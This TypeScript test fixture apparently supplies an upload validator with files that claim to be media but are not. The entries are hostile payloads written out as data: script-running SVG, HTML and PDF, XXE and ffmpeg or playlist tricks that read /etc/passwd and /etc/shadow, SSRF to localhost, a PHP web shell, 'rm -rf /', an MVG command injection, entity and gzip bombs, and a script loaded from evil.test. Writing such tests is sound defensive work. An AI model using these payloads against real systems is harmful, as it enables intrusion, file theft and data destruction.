import { gzipSync } from "node:zlib";
import { bytes, type HostileFile, notMedia } from "./hostile-file";

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const PAGE = "<!doctype html><script>alert(document.cookie)</script>";
const BOM = "\ufeff";

function utf16(text: string, order: "le" | "be"): Buffer {
  const content = Buffer.from(BOM + text, "utf16le");
  return order === "le" ? content : content.swap16();
}

const runs = "it runs scripts where it is shown";
const asks = "it names other files and addresses";
const program = "it is a program";

/** Text that browsers run, lists that players follow, and programs. */
export const DOCUMENTS: readonly HostileFile[] = [
  notMedia("an SVG", runs, SVG, "cat.svg"),
  notMedia("an SVG that is called PNG", runs, SVG, "cat.png"),
  notMedia("an SVG with a byte order mark", runs, BOM + SVG, "cat.png"),
  notMedia("an SVG in UTF-16", runs, utf16(SVG, "le"), "cat.png"),
  notMedia("an SVG in UTF-16, the other way round", runs, utf16(SVG, "be"), "cat.png"),
  notMedia("an SVG in UTF-16 without a mark", runs, Buffer.from(SVG, "utf16le"), "cat.png"),
  notMedia("a compressed SVG", runs, gzipSync(SVG), "cat.svgz"),
  notMedia("an SVG behind a comment", runs, `<!--${"x".repeat(2_000)}-->${SVG}`, "cat.jpg"),
  notMedia("an SVG behind pages of blanks", runs, " ".repeat(9_000) + SVG, "cat.jpg"),
  notMedia("an SVG behind a declaration", runs, `<?xml version="1.0"?><!DOCTYPE svg>${SVG}`, "cat.jpg"),
  notMedia(
    "an SVG with entities that double",
    "its text takes all memory",
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><svg>&c;</svg>`,
  ),
  notMedia(
    "an SVG that shows a file of the server",
    asks,
    SVG.replace("<script>", '<image href="file:///etc/passwd"/>'),
  ),
  notMedia("a page", runs, PAGE, "cat.png"),
  notMedia("a page with a byte order mark", runs, BOM + PAGE, "cat.png"),
  notMedia("a page in UTF-16", runs, utf16(PAGE, "le"), "cat.mp4"),
  notMedia("a page behind blanks and a comment", runs, `\n\t <!-- GIF89a -->${PAGE}`, "cat.gif"),
  notMedia("a page in capitals without a type", runs, "<SCRIPT SRC=//evil.test/x></SCRIPT>", "cat.webp"),
  notMedia("a page that is called a video", runs, PAGE, "cat.mp4"),
  notMedia("a page that begins with a zero byte", runs, `\0${PAGE}`, "cat.png"),
  notMedia("an XHTML page", runs, `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`, "cat.png"),
  notMedia("XML with a style that runs", runs, `<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>`),
  notMedia(
    "XML that reads a file",
    asks,
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`,
  ),
  notMedia("an archived page", runs, "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>", "cat.mhtml"),
  notMedia("a script", runs, "alert(1)//", "cat.js"),
  notMedia("a style", runs, "body{background:url(//evil.test)}", "cat.css"),
  notMedia("JSON", "it is no media", '{"video":"x"}', "cat.json"),
  notMedia("a PHP program", program, "<?php system($_GET['c']); ?>", "cat.php.png"),
  notMedia("a shell script", program, "#!/bin/sh\nrm -rf /\n", "cat.sh"),
  notMedia("a Windows program", program, bytes(`MZ\x90\0${"\0".repeat(56)}PE\0\0`), "cat.exe"),
  notMedia("a Linux program", program, bytes(`\x7fELF\x02\x01\x01${"\0".repeat(64)}`), "cat.png"),
  notMedia("WebAssembly", program, bytes("\0asm\x01\0\0\0"), "cat.wasm"),
  notMedia("a Java class", program, bytes("\xca\xfe\xba\xbe\0\0\0\x34")),
  notMedia("a ZIP", "it hides files", bytes(`PK\x03\x04${"\0".repeat(60)}`), "cat.zip"),
  notMedia("a gzip bomb", "it grows a thousandfold", gzipSync(Buffer.alloc(20_000_000)), "cat.png"),
  notMedia("a 7z archive", "it hides files", bytes("7z\xbc\xaf\x27\x1c\0\x04")),
  notMedia("a database", "it is no media", bytes("SQLite format 3\0\x10\0")),
  notMedia("a PDF", runs, "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "cat.png"),
  notMedia("a PDF behind rubbish", runs, `rubbish\n%PDF-1.7\n`, "cat.png"),
  notMedia("PostScript", program, "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file", "cat.jpg"),
  notMedia("a picture as MVG", asks, "push graphic-context\nimage over 0,0 0,0 'https://127.0.0.1/x|ls'", "cat.png"),
  notMedia(
    "a play list that reads a file",
    asks,
    "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "cat.mp4",
  ),
  notMedia("a play list that asks this machine", asks, "#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:6379/\n", "cat.mp4"),
  notMedia("a play list with a key elsewhere", asks, '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/shadow"\n'),
  notMedia("a list for ffmpeg", asks, "ffconcat version 1.0\nfile '/etc/passwd'\n", "cat.mp4"),
  notMedia(
    "a list for ffmpeg with a protocol",
    asks,
    "ffconcat version 1.0\nfile 'concat:/etc/passwd|x'\n",
    "cat.webm",
  ),
  notMedia("a DASH manifest", asks, '<?xml version="1.0"?><MPD><BaseURL>http://127.0.0.1/</BaseURL></MPD>', "cat.mp4"),
  notMedia("a session description", asks, "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\n", "cat.mp4"),
  notMedia("subtitles", "they are no media", "1\n00:00:00,000 --> 00:00:01,000\n<script>\n", "cat.srt"),
];
